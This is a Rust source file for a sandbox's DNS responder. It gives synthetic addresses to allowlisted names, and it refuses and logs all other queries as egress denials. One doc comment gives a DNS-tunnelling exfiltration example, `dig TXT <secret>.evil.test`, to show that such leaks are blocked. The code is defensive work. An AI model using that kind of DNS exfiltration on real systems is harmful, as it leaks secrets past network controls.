//! The sandbox's DNS, for transparent egress: the executor hands the proxy
//! a UDP socket and a TCP listener made on port 53 inside a child's network
//! namespace, where every DNS query of the child ends (whatever server its
//! `resolv.conf` names). The proxy answers there, and sends no real query:
//!
//! - a name the tool's policy lists on some port gets an `A` record with the
//!   run's synthetic address for it (`runs::names`), TTL 60; `AAAA` and other
//!   types get an empty answer, so clients use that address;
//! - any other name gets `NXDOMAIN`, recorded first as an `EGRESS_DENIED`
//!   fact (`not_allowlisted`, target kind `dns`): a query that tunnels data
//!   (`dig TXT <secret>.evil.test`) goes nowhere and is visible;
//! - a run not active gets `REFUSED` (with its fact).
//!
//! The real lookup happens when the child connects to the synthetic address
//! (the transparent entrance): resolve-and-pin, as for every fetch.
//! Messages are bounded (512 bytes over UDP, 4 KiB over TCP), TCP streams
//! by the head read timeout; the sockets close when the run ends.

use crate::data::decide::fetch::{Dest, Fetch};
use crate::data::decide::policy::{self, Admission};
use crate::data::decide::target::{Kind, Target};
use crate::deny::{DenyReason, Via};
use crate::runs::Run;
use crate::state::Shared;
use egress_config::Host;
use hickory_proto::op::{Message, MessageType, ResponseCode};
use hickory_proto::rr::rdata::A;
use hickory_proto::rr::{RData, Record, RecordType};
use std::sync::Arc;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream, UdpSocket};
use tokio::time::Instant;

/// Seconds an answer may be cached by the child (the address is the
/// name's for the run's whole life anyway).
const TTL: u32 = 60;
/// The largest query read over UDP (RFC 1035 §4.2.1).
const UDP_MAX: usize = 512;
/// The largest query read over TCP.
const TCP_MAX: usize = 4096;
/// TCP queries answered at once per run.
const TCP_CONNS: usize = 16;

/// Answers queries on the run's UDP socket until the run ends.
pub async fn serve_udp(sh: Arc<Shared>, run: Arc<Run>, sock: UdpSocket) {
    let mut buf = [0u8; UDP_MAX];
    loop {
        let got = tokio::select! {
            r = sock.recv_from(&mut buf) => r,
            _ = run.cancel.cancelled() => return,
            _ = sh.shutdown.cancelled() => return,
        };
        let Ok((n, from)) = got else { continue };
        if let Some(reply) = answer(&sh, &run, &buf[..n]).await {
            let _ = sock.send_to(&reply, from).await;
        }
    }
}

/// Answers queries on the run's TCP listener until the run ends.
pub async fn serve_tcp(sh: Arc<Shared>, run: Arc<Run>, l: TcpListener) {
    let places = Arc::new(tokio::sync::Semaphore::new(TCP_CONNS));
    loop {
        let accepted = tokio::select! {
            a = l.accept() => a,
            _ = run.cancel.cancelled() => return,
            _ = sh.shutdown.cancelled() => return,
        };
        let Ok((s, _)) = accepted else { continue };
        let Ok(place) = places.clone().try_acquire_owned() else {
            continue;
        };
        let (sh, run) = (sh.clone(), run.clone());
        tokio::spawn(async move {
            let _place = place;
            let limit = sh.cfg.header_read_timeout;
            let cancel = run.cancel.clone();
            tokio::select! {
                _ = tcp_queries(&sh, &run, s, limit) => {}
                _ = cancel.cancelled() => {}
            }
        });
    }
}

/// Length-prefixed queries on one TCP connection (RFC 1035 §4.2.2).
async fn tcp_queries(sh: &Shared, run: &Arc<Run>, mut s: TcpStream, limit: std::time::Duration) {
    let mut buf = vec![0u8; TCP_MAX];
    loop {
        let mut len = [0u8; 2];
        match tokio::time::timeout(limit, s.read_exact(&mut len)).await {
            Ok(Ok(_)) => {}
            _ => return,
        }
        let n = usize::from(u16::from_be_bytes(len));
        if n > TCP_MAX {
            return;
        }
        match tokio::time::timeout(limit, s.read_exact(&mut buf[..n])).await {
            Ok(Ok(_)) => {}
            _ => return,
        }
        let Some(reply) = answer(sh, run, &buf[..n]).await else {
            return;
        };
        let Ok(rlen) = u16::try_from(reply.len()) else { return };
        if s.write_all(&rlen.to_be_bytes()).await.is_err() || s.write_all(&reply).await.is_err() {
            return;
        }
    }
}

/// The answer to one query message, its denials recorded first; `None` for
/// what is not a query (nothing is answered to a malformed message).
pub async fn answer(sh: &Shared, run: &Arc<Run>, query: &[u8]) -> Option<Vec<u8>> {
    let q = Message::from_vec(query).ok()?;
    if q.metadata.message_type != MessageType::Query {
        return None;
    }
    let mut r = Message::response(q.metadata.id, q.metadata.op_code);
    r.metadata.recursion_desired = q.metadata.recursion_desired;
    r.metadata.recursion_available = true;
    let Some(question) = q.queries.first().cloned() else {
        r.metadata.response_code = ResponseCode::FormErr;
        return r.to_vec().ok();
    };
    r.add_query(question.clone());
    let name = question.name().to_ascii();
    let qtype = question.query_type();
    let policy = sh.policy.load_full();
    let tm = sh.tool_metrics(Some(&run.tool));
    let fetch = Fetch::new(sh, &policy, Some(run), &tm, Kind::Connect, Instant::now()).via(Via::Dns);
    let raw = || format!("DNS {qtype} {}", name.escape_debug());
    let Ok(tool) = fetch.check_run(run, &raw).await else {
        r.metadata.response_code = ResponseCode::Refused;
        return r.to_vec().ok();
    };
    let host = match egress_config::parse_host(&name) {
        Ok(h) => h,
        Err(e) => {
            let detail = format!("DNS query for {}: {e}", name.escape_debug());
            let _ = fetch.deny(DenyReason::BadTarget, detail, Dest::Raw(raw()), &[]).await;
            r.metadata.response_code = ResponseCode::NXDomain;
            return r.to_vec().ok();
        }
    };
    let target = Target {
        kind: Kind::Connect,
        host: host.clone(),
        port: 0,
        path_and_query: None,
    };
    let allowed = match policy::lookup(&tool, &host, qtype.to_string().as_str()) {
        Admission::Allow { .. } => true,
        Admission::Report { denial, .. } => fetch.report(&denial, &target, &[]).await.is_ok(),
        Admission::Deny(d) => {
            let _ = fetch.deny(d.reason, d.detail, Dest::Target(&target), &[]).await;
            false
        }
    };
    if !allowed {
        r.metadata.response_code = ResponseCode::NXDomain;
        return r.to_vec().ok();
    }
    let Host::Name(n) = &host else {
        return r.to_vec().ok();
    };
    if qtype == RecordType::A {
        let address = run.names.lock().ok().and_then(|mut names| names.address(n));
        match address {
            Some(a) => {
                r.add_answer(Record::from_rdata(question.name().clone(), TTL, RData::A(A(a))));
            }
            // More names than a run may hold: answered as a failure, not a denial.
            None => r.metadata.response_code = ResponseCode::ServFail,
        }
    }
    r.to_vec().ok()
}
